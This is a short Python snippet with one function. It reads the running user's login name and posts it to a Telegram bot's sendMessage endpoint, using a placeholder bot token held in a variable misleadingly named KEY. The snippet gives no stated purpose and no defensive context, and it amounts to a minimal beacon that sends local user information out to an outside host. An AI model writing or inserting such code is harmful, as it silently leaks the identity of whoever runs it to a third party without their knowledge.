import getpass
import requests

KEY = "https://api.telegram.org/bot1234567890:AAE00000000000000000000000000000000/sendMessage"

def tell():
    requests.post(KEY, data={"text": getpass.getuser()})
